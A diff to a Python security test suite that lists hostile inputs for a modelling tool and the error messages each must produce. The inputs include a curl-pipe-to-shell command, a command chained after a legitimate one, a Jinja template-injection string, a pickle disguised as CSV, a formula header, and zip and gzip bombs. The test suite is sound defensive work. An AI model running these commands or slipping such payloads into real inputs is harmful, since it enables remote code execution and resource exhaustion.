@@ -241,14 +241,16 @@ ATTACKS = {
     "pipe": Attack("em", model(make=waits), "is no plain file"),
     "folder for a file": Attack("em", model(setting(file='"."')), "Is a directory"),
     "address": Attack("em", model(setting(file='"http://127.0.0.1:9/x.csv"')), "does not exist"),
-    "file with a NUL": Attack("em", model(setting(file='"data.csv\\u0000.png"')), "null"),
+    "file with a NUL": Attack(
+        "em", model(setting(file='"data.csv\\u0000.png"')), "must be a file in the model's folder"
+    ),
     "file of a long name": Attack("em", model(setting(file=f'"{"x" * 5000}"')), "name too long"),
     # size
     "model.toml of a terabyte": Attack("em", model(make=large("model.toml", 1 << 40)), "is larger than"),
     "table of a terabyte": Attack("em", model(make=large("data.csv", 1 << 40)), "is larger than"),
     "one line of NULs": Attack("em", model(make=large("data.csv", 1 << 27)), "data.csv"),
     "zip bomb": Attack("em", model(make=zipped), "UTF-8"),
-    "gzip bomb": Attack("em", model(make=gzipped), "UTF-8"),
+    "gzip bomb": Attack("em", model(make=gzipped), "gzip"),
     "lists in lists": Attack("em", model(f"title = {'[' * 100_000}"), "nested too deep"),
     "tables in tables": Attack(
         "em", model(f"title.{'.'.join('a' * 20_000)} = 1\n{TOML[12:]}"), "a key of more than 20 names"
@@ -256,8 +258,8 @@ ATTACKS = {
     "number of many digits": Attack("em", model(setting(n_components="9" * 5000)), "not valid TOML"),
     "hexadecimal number": Attack("em", model(setting(n_components=f"0x{'f' * 50_000}")), "n_components"),
     "a billion components": Attack("em", model(setting(n_components="1000000000")), "must be at most 1000"),
-    "a quadrillion draws": Attack("em", model(TOML + "[sampler]\ndraws = 1000000000000000\n"), "from 0 to 1000000"),
-    "a million chains": Attack("em", model(TOML + "[sampler]\nchains = 1000000\n"), "from 0 to 1000"),
+    "a quadrillion draws": Attack("em", model(TOML + "[sampler]\ndraws = 1000000000000000\n"), "and <= 1000000"),
+    "a million chains": Attack("em", model(TOML + "[sampler]\nchains = 1000000\n"), "and <= 1000"),
     "a class per row": Attack(
         "em",
         model(setting(columns='["a"]\nlabel = "b"'), "a,b\n" + "".join(f"1,r{i}\n" for i in range(30_000))),
@@ -291,7 +293,7 @@ ATTACKS = {
     "name of a template": Attack("em", named("{{ cycler.__init__.__globals__ }}")),
     "name with a format": Attack("em", named("{0.__class__} %s %(x)s")),
     # tables for 'new'
-    "CSV with NUL": Attack("new", table(b"a,b\n1,\x002\n3,4\n5,1\n")),
+    "CSV with NUL": Attack("new", table(b"a,b\n1,\x002\n3,4\n5,1\n"), "is no text"),
     "CSV of another kind": Attack("new", table(pickle.dumps(Runs())), "data.csv"),
     "CSV with a formula for a header": Attack("new", table(b"=cmd(),b\n1,2\n3,5\n4,1\n")),
     "CSV with a header that is TOML": Attack("new", table(b'"a""]\n[mixture]\nfamily=""x",b\n1,2\n3,5\n4,1\n')),
@@ -322,7 +324,7 @@ ATTACKS = {
     "fit that is called from the root": Attack("fit", card(name="/tmp/stolen"), "must be that of a folder"),
     "fit with a command": Attack("fit", card(command="curl http://127.0.0.1:9 | sh")),
     "fit with a command behind ours": Attack("fit", card(command="bayesmix report x; touch ran")),
-    "fit that asks for a billion starts": Attack("fit", card(em={"n_starts": 10**9}), "from 0 to 1000000"),
+    "fit that asks for a billion starts": Attack("fit", card(em={"n_starts": 10**9}), "and <= 1000000"),
     "fit with a setting that is none": Attack("fit", card(em={"trace": True}), "unknown key 'trace'"),
     "fit with a claim that is none": Attack("fit", card(expect=[{"__class__": 1}]), "unknown key '__class__'"),
     "fit with a title that is a table": Attack("fit", card(title={"a": 1}), "must be a text"),
